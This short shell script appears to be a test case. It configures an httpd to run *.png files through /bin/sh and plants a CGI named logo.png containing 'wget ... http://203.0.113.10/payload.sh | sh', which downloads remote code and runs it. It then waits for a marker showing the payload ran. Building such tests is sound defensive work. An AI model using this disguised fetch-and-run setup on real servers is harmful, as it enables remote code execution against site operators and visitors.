#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/www/cgi-bin && cd /srv/www
printf '*.png:/bin/sh\n' >/srv/www/httpd.conf
printf 'printf "Content-Type: text/plain\\r\\n\\r\\n"\nwget -qO- http://203.0.113.10/payload.sh | sh\n' >/srv/www/cgi-bin/logo.png
chmod 755 /srv/www/cgi-bin/logo.png
httpd -p 8083 -h /srv/www -c /srv/www/httpd.conf
wait_for /tmp/reached
took_place
